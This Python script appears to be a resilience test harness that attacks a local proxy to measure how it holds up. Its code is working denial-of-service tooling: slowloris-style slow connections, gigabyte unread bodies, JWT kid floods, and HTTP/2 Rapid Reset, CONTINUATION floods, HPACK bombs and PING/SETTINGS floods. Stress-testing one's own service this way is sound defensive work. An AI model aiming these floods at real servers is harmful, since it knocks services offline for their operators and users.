"""Strangers, one kind a process: `attackers.py KIND PORT SECONDS TOKEN`.

Each does what it does as fast as it can, and then prints a line of JSON: how often, and what came of it.
All come from an address of their own, so that they take no port from those who ask for good.
"""

import asyncio
import base64
import collections
import contextlib
import json
import os
import resource
import struct
import sys
import time

from hpack import Encoder
from hpack.struct import NeverIndexedHeaderTuple

FROM = ("127.0.0.2", 0)
PATIENCE = 5  # seconds for whatever is waited for
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SLOW = 2  # seconds between two bytes of whoever is slow
SLOW_CONNECTIONS = 5000
SOCKETS = 1000


class Attack:
    def __init__(self, port, seconds, token):
        self.port, self.until, self.token = port, time.monotonic() + seconds, token
        self.done = collections.Counter()

    def goes_on(self):
        return time.monotonic() < self.until

    async def many(self, count, one):
        """As many at a time, each again and again; whoever is cut off begins anew."""
        await asyncio.gather(*(self.again(one, number) for number in range(count)))

    async def again(self, one, number):
        while self.goes_on():
            try:
                async with asyncio.timeout(max(0.1, self.until - time.monotonic())):
                    await self.connected(one, number)
            except TimeoutError:
                pass
            except OSError:
                self.done["cut off"] += 1
                await asyncio.sleep(0.01)

    async def connected(self, one, number):
        reader, writer = await asyncio.open_connection("127.0.0.1", self.port, local_addr=FROM)
        self.done["connections"] += 1
        try:
            await one(reader, writer, number)
        finally:
            writer.transport.abort()

    # HTTP/1.1

    async def unknown_kids(self):
        _, payload, signature = self.token.split(".")
        await self.many(8, lambda reader, writer, _: self.kids(reader, writer, payload, signature))

    async def kids(self, reader, writer, payload, signature):
        """Pipelined by the fifty, so that it is not this side that is slow."""
        while self.goes_on():
            asks = []
            for _ in range(50):
                header = json.dumps({"alg": "RS256", "typ": "JWT", "kid": "ins_" + os.urandom(14).hex()})
                encoded = base64.urlsafe_b64encode(header.encode()).rstrip(b"=").decode()
                asks.append(
                    f"GET /a HTTP/1.1\r\nhost: p\r\nauthorization: Bearer {encoded}.{payload}.{signature}\r\n\r\n"
                )
            writer.write("".join(asks).encode())
            for _ in asks:
                await self.refused(reader)

    async def refused(self, reader):
        head = await read_head(reader)
        await reader.readexactly(int(head.partition(b"content-length: ")[2].partition(b"\r\n")[0]))
        self.done[head.split(b" ")[1].decode()] += 1
        self.done["attacks"] += 1

    async def slow_connections(self):
        most = 0
        attack = asyncio.create_task(self.many(SLOW_CONNECTIONS, self.slow))
        while not attack.done():
            await asyncio.wait([attack], timeout=0.25)
            most = max(most, self.done["open"])
        self.done = collections.Counter(
            {"attacks": self.done["attacks"], "at a time": most, "closed on us": self.done["cut off"]}
        )

    async def slow(self, reader, writer, number):
        """Half are slow in their heads, and half in bodies that the backend waits for."""
        head = b"POST /echo HTTP/1.1\r\nhost: p\r\nauthorization: Bearer " + self.token.encode()
        if number % 2:
            writer.write(head + b"\r\ncontent-length: 100000\r\n\r\n")
        self.done["attacks"] += 1
        self.done["open"] += 1
        try:
            for at in range(1 << 30):
                writer.write(b"x" if number % 2 else head[at % len(head) :][:1])
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(SLOW):
                        if not await reader.read(4096):
                            raise ConnectionResetError
        finally:
            self.done["open"] -= 1

    async def unread_bodies(self):
        await self.many(64, self.unread)

    async def unread(self, reader, writer, _):
        """Who has no token sends a gigabyte: an answer is there before a part of it, and the rest is not read."""
        writer.write(b"POST /a HTTP/1.1\r\nhost: p\r\ncontent-length: 1073741824\r\n\r\n")
        piece, sent = bytes(65536), 0
        answer = asyncio.ensure_future(read_head(reader))
        try:
            while sent < 1 << 26 and not writer.is_closing():
                writer.write(piece)
                async with asyncio.timeout(1):  # nobody takes it: that is all there is to be had
                    await writer.drain()
                sent += len(piece)
        except (OSError, TimeoutError):
            pass
        finally:
            self.done["MiB sent"] += sent / (1 << 20)
            self.done["attacks"] += 1
            with contextlib.suppress(OSError, EOFError, TimeoutError):
                async with asyncio.timeout(1):
                    self.done[(await answer).split(b" ")[1].decode()] += 1

    async def silent_sockets(self):
        await self.many(SOCKETS, self.silent_socket)

    async def silent_socket(self, reader, writer, _):
        key = base64.b64encode(os.urandom(16)).decode()
        writer.write(
            f"GET /socket HTTP/1.1\r\nhost: p\r\nauthorization: Bearer {self.token}\r\nconnection: upgrade\r\n"
            f"upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: {key}\r\n\r\n".encode()
        )
        self.done[(await read_head(reader)).split(b" ")[1].decode()] += 1
        self.done["attacks"] += 1
        await reader.read(1)
        raise ConnectionResetError

    # HTTP/2

    async def speak(self, writer, window=65535):
        writer.write(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
        await writer.drain()

    def head(self, authorized=True):
        """A head that is the same bytes each time: nothing of it is remembered."""
        fields = {":method": "GET", ":scheme": "http", ":authority": "p", ":path": "/echo"}
        if authorized:
            fields["authorization"] = f"Bearer {self.token}"
        return Encoder().encode([NeverIndexedHeaderTuple(*field) for field in fields.items()])

    async def flooded(self, reader, writer, of, read=True):
        """Writes what `of` makes, again and again, until the other side has had enough; `of` says how much it was."""
        reading = asyncio.create_task(self.farewell(reader)) if read else None
        try:
            while self.goes_on() and not (reading and reading.done()):
                data, count = of()
                writer.write(data)
                async with asyncio.timeout(PATIENCE):
                    await writer.drain()
                self.done["attacks"] += count
                await asyncio.sleep(0)
        except TimeoutError:
            self.done["taken no more"] += 1
        finally:
            if reading:
                reading.cancel()

    async def farewell(self, reader):
        """Reads frames to the end; counts why it ended."""
        with contextlib.suppress(OSError, EOFError):
            while True:
                length, kind = struct.unpack(">IB", b"\0" + await reader.readexactly(4))
                await reader.readexactly(5)
                payload = await reader.readexactly(length)
                if kind == GOAWAY and payload[4:8] != b"\0\0\0\0":
                    self.done[f"GOAWAY {int.from_bytes(payload[4:8])}"] += 1
                if kind == RST_STREAM:
                    self.done["streams reset"] += 1

    async def rapid_reset(self):
        head = self.head()

        async def one(reader, writer, _):
            await self.speak(writer)
            stream = -1

            def some():
                nonlocal stream
                frames = []
                for _ in range(50):
                    stream += 2
                    frames.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, head))
                    frames.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                return b"".join(frames), 50

            await self.flooded(reader, writer, some)

        await self.many(4, one)

    async def continuations(self):
        async def one(reader, writer, number):
            await self.speak(writer)
            writer.write(frame(HEADERS, END_STREAM, 1, self.head()))
            # Small and whole fields, or one that has no end.
            piece = (b"\x00\x01a\x01b" * 3000) if number % 2 else b"\x00\x01a\x7f\xff\xff\xff\x7f" + b"x" * 16000
            await self.flooded(reader, writer, lambda: (frame(CONTINUATION, 0, 1, piece), 1))

        await self.many(4, one)

    async def hpack_bombs(self):
        """A field of nothing, or of 4 KiB, is remembered, and named thousands of times by a byte each."""
        plain = self.head(authorized=False)
        bombs = [
            plain + b"\x40\x01a\x00" + b"\xbe" * 16000,
            plain + b"\x40\x06cookie\x00" + b"\xbe" * 16000,
            plain + b"\x40\x01a\x7f\x81\x1e" + b"x" * 4000 + b"\xbe" * 12000,
            plain + b"\x40\x01a\x00" + b"\xbe" * 90,
        ]

        async def one(reader, writer, number):
            await self.speak(writer, window=0)
            stream, bomb = -1, bombs[number % 4]

            def some():
                nonlocal stream
                stream += 2
                return frame(HEADERS, END_STREAM | END_HEADERS, stream, bomb), 1

            for _ in range(200):
                data, _ = some()
                writer.write(data)
                self.done["attacks"] += 1
                await writer.drain()
            async with asyncio.timeout(2):
                await self.farewell(reader)

        await self.many(8, one)

    async def pings_and_settings(self):
        ping = frame(PING, 0, 0, bytes(8)) * 100
        settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) * 100
        thrash = (
            frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 0)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 0xFFFFFFFF))
        ) * 50

        async def one(reader, writer, number):
            """Half of them read the answers, and half do not."""
            await self.speak(writer)
            await self.flooded(
                reader, writer, lambda: ([ping, settings, thrash][number % 3], 100), read=number % 2 == 0
            )

        await self.many(6, one)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


async def read_head(reader):
    try:
        return await reader.readuntil(b"\r\n\r\n")
    except asyncio.IncompleteReadError:
        raise ConnectionResetError from None


def main():
    kind, port, seconds, token = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    os.nice(5)  # on another machine it would not take from the proxy's time
    attack = Attack(int(port), float(seconds), token)
    start = time.monotonic()
    asyncio.run(getattr(attack, kind)())
    attack.done = {what: round(count) for what, count in attack.done.items() if count}
    print(json.dumps({"seconds": time.monotonic() - start, "done": attack.done}), flush=True)


if __name__ == "__main__":
    main()
